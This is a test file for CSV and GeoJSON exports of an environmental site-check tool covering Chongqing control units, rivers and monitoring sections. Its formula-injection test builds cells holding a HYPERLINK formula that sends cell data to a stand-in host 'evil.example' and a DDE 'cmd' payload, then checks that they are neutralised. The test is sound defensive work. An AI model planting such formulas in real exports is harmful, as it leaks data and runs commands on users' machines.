/**
 * CSV and GeoJSON exports of the site check, on results the real spatial core gives on the
 * bundled sample data. The CSV is read back with an independent RFC 4180 parser.
 */
import { describe, expect, it } from 'vitest';
import type { Geometry } from 'geojson';
import { M2_PER_MU, roundTo, type SiteCheckResult } from '../../src/geo/index';
import { fixed, guardCell, reportFileName, siteCheckCsv, siteCheckGeoJson, toCsv } from '../../src/ui/report/report-export';
import { check, square, translator, unitFeatures } from './report-helpers';

const zh = translator('zh');
const en = translator('en');

/** Minimal RFC 4180 reader: CRLF records, quoted fields with doubled quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else if (c === '\n' || c === '\r') throw new Error(`bare line break at ${i}`);
    else cell += c;
  }
  if (cell !== '' || row.length) throw new Error('last record not terminated by CRLF');
  return rows;
}

const squareSite = square(108.39, 30.81);
const squareResult = check(squareSite);
// 6 km × 6.7 km around 万州 city: several units, rivers, sections
const bigSite: Geometry = { type: 'Polygon', coordinates: [[[108.36, 30.78], [108.42, 30.78], [108.42, 30.84], [108.36, 30.84], [108.36, 30.78]]] };
const bigResult = check(bigSite);
const pointSite: Geometry = { type: 'Point', coordinates: [108.2, 30.6] };
const pointResult = check(pointSite);
const lineSite: Geometry = { type: 'LineString', coordinates: [[108.3, 30.75], [108.45, 30.85]] };
const lineResult = check(lineSite);

const HEAD_ZH = ['类别', '项目', '编码', '名称', '数值', '单位', '说明'];
const body = (rows: string[][], category: string) => rows.filter((r) => r[0] === category);

describe('siteCheckCsv', () => {
  const text = siteCheckCsv(bigResult, zh, 'zh', { datasetName: '重庆市（示例数据）', generated: '2024-06-30 14:05' });
  const rows = parseCsv(text.slice(1));

  it('UTF-8 BOM, CRLF after every record, no bare LF, 7 columns, localized header', () => {
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    expect(rows[0]).toEqual(HEAD_ZH);
    for (const r of rows) expect(r).toHaveLength(7);
    const enRows = parseCsv(siteCheckCsv(bigResult, en, 'en').slice(1));
    expect(enRows[0]).toEqual(['Category', 'Item', 'Code', 'Name', 'Value', 'Unit', 'Note']);
  });

  it('site summary: area in 平方米, 公顷, 亩 (m² / 666.67, 2 decimals) and km², perimeter, centroid to 6 decimals', () => {
    const site = body(rows, '场地');
    const area = site.filter((r) => r[1] === '面积');
    const a = bigResult.site.areaM2;
    expect(area.map((r) => r[5])).toEqual(['平方米', '公顷', '亩', '平方公里']);
    expect(area[0]?.[4]).toBe(fixed(a, 2));
    expect(area[1]?.[4]).toBe(fixed(a / 10000, 4));
    expect(area[2]?.[4]).toBe(roundTo(a / M2_PER_MU, 2).toFixed(2));
    expect(Math.abs(Number(area[2]?.[4]) - a / 666.67)).toBeLessThan(0.01 + a * 1e-6);
    expect(area[3]?.[4]).toBe(fixed(a / 1e6, 6));
    expect(site.find((r) => r[1] === '周长')?.[4]).toBe(fixed(bigResult.site.lengthM, 2));
    expect(site.find((r) => r[1] === '中心点经度')?.[4]).toMatch(/^108\.\d{6}$/);
    expect(site.find((r) => r[1] === '类型')?.[4]).toBe('面');
    expect(body(rows, '数据')[0]?.[6]).toContain('示例数据');
  });

  it('亩 rounding: half away from zero on the decimal value', () => {
    const r: SiteCheckResult = { ...squareResult, site: { ...squareResult.site, areaM2: 1000.005 * M2_PER_MU } };
    const mu = body(parseCsv(siteCheckCsv(r, zh, 'zh').slice(1)), '场地').find((x) => x[5] === '亩');
    expect(mu?.[4]).toBe('1000.01');
  });

  it('one row per unit touched, in the result order, with overlap m² and share', () => {
    expect(bigResult.units.length).toBeGreaterThan(1);
    const units = body(rows, '涉及的管控单元');
    expect(units.map((r) => r[2])).toEqual(bigResult.units.map((u) => u.code));
    bigResult.units.forEach((u, i) => {
      expect(units[i]?.[3]).toBe(u.name);
      expect(units[i]?.[4]).toBe(fixed(u.overlapAreaM2, 2));
      expect(units[i]?.[5]).toBe('平方米');
      expect(units[i]?.[6]).toContain(u.subtype);
    });
    const sum = units.reduce((s, r) => s + Number(r[4]), 0);
    expect(Math.abs(sum - bigResult.site.areaM2) / bigResult.site.areaM2).toBeLessThan(1e-3);
  });

  it('nearest priority unit, rivers with bands, sections with class and relation, clauses with codes, verdict + disclaimer', () => {
    const np = body(rows, '最近的优先保护单元');
    expect(np).toEqual([['最近的优先保护单元', '距离', bigResult.nearestPriority?.code, bigResult.nearestPriority?.name, fixed(bigResult.nearestPriority?.distanceM ?? NaN, 2), '米', '']]);
    const rivers = body(rows, '与主要河流的距离');
    expect(rivers.map((r) => r[3])).toEqual(['长江', '嘉陵江', '乌江']);
    expect(rivers[0]?.[6]).toBe('1 公里岸线带内：是；5 公里范围内：是');
    expect(rivers[1]?.[6]).toBe('1 公里岸线带内：否；5 公里范围内：否');
    const sections = body(rows, '附近的监测断面');
    expect(sections.map((r) => r[2])).toEqual(bigResult.sections.map((s) => s.id));
    for (const [i, s] of bigResult.sections.entries()) {
      expect(sections[i]?.[4]).toBe(fixed(s.distanceM, 2));
      expect(sections[i]?.[6]).toMatch(/水质 (Ⅰ|Ⅱ|Ⅲ|Ⅳ|Ⅴ|劣Ⅴ) 类；(上游|下游|同一河段|—)/);
    }
    const rules = body(rows, '生态环境准入清单');
    const clauses = Object.values(bigResult.rules).flat();
    expect(rules).toHaveLength(clauses.length);
    expect(rules.map((r) => r[6])).toEqual(
      (['spatial_layout', 'pollutant_discharge', 'risk_prevention', 'resource_efficiency'] as const).flatMap((d) => bigResult.rules[d].map((c) => c.text)),
    );
    expect(rules.map((r) => r[2])).toEqual(
      (['spatial_layout', 'pollutant_discharge', 'risk_prevention', 'resource_efficiency'] as const).flatMap((d) => bigResult.rules[d].map((c) => c.codes.join('、'))),
    );
    const verdict = body(rows, '核查结论');
    expect(verdict[0]?.slice(1, 5)).toEqual(['结论', bigResult.verdict.level, '', '需要注意']);
    expect(verdict).toHaveLength(2 + bigResult.verdict.reasons.length);
    expect(verdict.at(-1)?.[6]).toContain('不构成审批意见或法律意见');
  });

  it('point inside a priority unit: share of points, distance 0 and "inside"', () => {
    const r = parseCsv(siteCheckCsv(pointResult, zh, 'zh').slice(1));
    expect(body(r, '涉及的管控单元').map((x) => [x[1], x[2], x[4], x[5]])).toEqual([['点位占比', pointResult.units[0]?.code, '100.00', '%']]);
    expect(body(r, '最近的优先保护单元')[0]?.slice(4)).toEqual(['0.00', '米', '场地位于该单元内（距离 0 米）']);
    expect(body(r, '场地').some((x) => x[1] === '面积')).toBe(false);
  });

  it('line site: length and overlap lengths in metres', () => {
    const r = parseCsv(siteCheckCsv(lineResult, en, 'en').slice(1));
    const site = body(r, 'Site');
    expect(site.find((x) => x[1] === 'Length')?.[4]).toBe(fixed(lineResult.site.lengthM, 2));
    const units = body(r, 'Control units touched');
    expect(units.map((x) => x[2])).toEqual(lineResult.units.map((u) => u.code));
    expect(units.every((x) => x[1] === 'Overlap length' && x[5] === 'm')).toBe(true);
    expect(body(r, 'Distance to the main rivers').map((x) => x[3])).toEqual(['Yangtze', 'Jialing River', 'Wu River']);
  });

  it('formula injection: data cells starting with = + - @ get an apostrophe; numbers do not', () => {
    const evil = '=HYPERLINK("http://evil.example/?q="&A1,"点击")';
    const u0 = squareResult.units[0];
    if (!u0) throw new Error('no unit');
    const r: SiteCheckResult = {
      ...squareResult,
      units: [{ ...u0, name: evil, subtype: '+SUM(1,2)' }],
      rules: { ...squareResult.rules, spatial_layout: [{ text: '@cmd|" /C calc"!A0', codes: ['-2+3'] }] },
    };
    const text = siteCheckCsv(r, zh, 'zh');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""点击"")"`);
    const rows = parseCsv(text.slice(1));
    const unit = body(rows, '涉及的管控单元')[0];
    expect(unit?.[3]).toBe(`'${evil}`);
    expect(unit?.[6]?.startsWith('重点管控')).toBe(true); // note starts with the category, not the data
    const rule = body(rows, '生态环境准入清单')[0];
    expect(rule?.[6]).toBe(`'@cmd|" /C calc"!A0`);
    expect(rule?.[2]).toBe(`'-2+3`);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
    expect(guardCell('-12.5')).toBe('-12.5');
    expect(guardCell('-12.5e3')).toBe("'-12.5e3");
    expect(guardCell('\t=1')).toBe("'\t=1");
  });

  it('RFC 4180 quoting round-trips commas, quotes and line breaks', () => {
    const cells = ['a,b', 'say "hi"', 'two\r\nlines', 'one\nline', '', '中文，全角逗号'];
    const out = toCsv([cells]);
    expect(parseCsv(out.slice(1))).toEqual([cells]);
    expect(out).toBe('\uFEFF"a,b","say ""hi""","two\r\nlines","one\nline",,中文，全角逗号\r\n');
  });
});

describe('siteCheckGeoJson', () => {
  const fc = siteCheckGeoJson(bigResult, bigSite, unitFeatures, { dataset: '重庆市（示例数据）' });

  it('1 site + units + nearest line + rivers + sections, in that order', () => {
    const n = 1 + bigResult.units.length + (bigResult.nearestPriority ? 1 : 0) + bigResult.rivers.length + bigResult.sections.length;
    expect(fc.type).toBe('FeatureCollection');
    expect(fc.features).toHaveLength(n);
    const roles = fc.features.map((f) => f.properties?.role);
    expect(roles).toEqual([
      'site',
      ...bigResult.units.map(() => 'unit'),
      'nearest-priority',
      ...bigResult.rivers.map(() => 'river'),
      ...bigResult.sections.map(() => 'section'),
    ]);
    expect(JSON.parse(JSON.stringify(fc))).toEqual(fc);
  });

  it('site: geometry as given, summary and verdict level, meta', () => {
    const site = fc.features[0];
    expect(site?.geometry).toEqual(bigSite);
    expect(site?.properties).toMatchObject({
      role: 'site',
      kind: 'polygon',
      areaM2: bigResult.site.areaM2,
      areaMu: bigResult.site.areaM2 / M2_PER_MU,
      verdict: bigResult.verdict.level,
      dataset: '重庆市（示例数据）',
    });
  });

  it('units carry their own geometry and the overlap figures', () => {
    const units = fc.features.filter((f) => f.properties?.role === 'unit');
    units.forEach((f, i) => {
      const u = bigResult.units[i];
      expect(f.properties?.code).toBe(u?.code);
      expect(f.geometry).toBe(unitFeatures.get(u?.code ?? '')?.geometry);
      expect(f.properties?.overlapAreaM2).toBe(u?.overlapAreaM2);
      expect(f.properties?.shareOfSite).toBe(u?.shareOfSite);
    });
  });

  it('lines from → to with distances; sections as points', () => {
    const np = fc.features.find((f) => f.properties?.role === 'nearest-priority');
    expect(np?.geometry).toEqual({ type: 'LineString', coordinates: [bigResult.nearestPriority?.from, bigResult.nearestPriority?.to] });
    expect(np?.properties?.distanceM).toBe(bigResult.nearestPriority?.distanceM);
    const rivers = fc.features.filter((f) => f.properties?.role === 'river');
    expect(rivers.map((f) => [f.properties?.name, f.properties?.within1km])).toEqual(bigResult.rivers.map((r) => [r.name, r.within1km]));
    const sections = fc.features.filter((f) => f.properties?.role === 'section');
    sections.forEach((f, i) => {
      expect(f.geometry).toEqual({ type: 'Point', coordinates: bigResult.sections[i]?.position });
      expect(f.properties?.classLabel).toMatch(/^(Ⅰ|Ⅱ|Ⅲ|Ⅳ|Ⅴ|劣Ⅴ)$/);
    });
  });

  it('point site inside a priority unit: zero-length nearest line; units missing from the map are skipped', () => {
    const p = siteCheckGeoJson(pointResult, pointSite, unitFeatures);
    const np = p.features.find((f) => f.properties?.role === 'nearest-priority');
    expect(np?.properties).toMatchObject({ distanceM: 0, inside: true });
    const without = siteCheckGeoJson(pointResult, pointSite, new Map());
    expect(without.features.filter((f) => f.properties?.role === 'unit')).toHaveLength(0);
    expect(without.features).toHaveLength(p.features.length - pointResult.units.length);
  });
});

describe('reportFileName', () => {
  it('local date-time of the given Date and the centroid; ASCII only', () => {
    const d = new Date(2024, 5, 30, 14, 5, 59);
    expect(reportFileName(squareResult, 'csv', d)).toBe('site-check-20240630-1405-108.3900E-30.8100N.csv');
    expect(reportFileName(squareResult, '.geojson', new Date(2024, 0, 2, 3, 4))).toBe('site-check-20240102-0304-108.3900E-30.8100N.geojson');
    const west: SiteCheckResult = { ...squareResult, site: { ...squareResult.site, centroid: [-0.12345, -33.9] } };
    expect(reportFileName(west, 'csv', d)).toBe('site-check-20240630-1405-0.1235W-33.9000S.csv');
  });
});
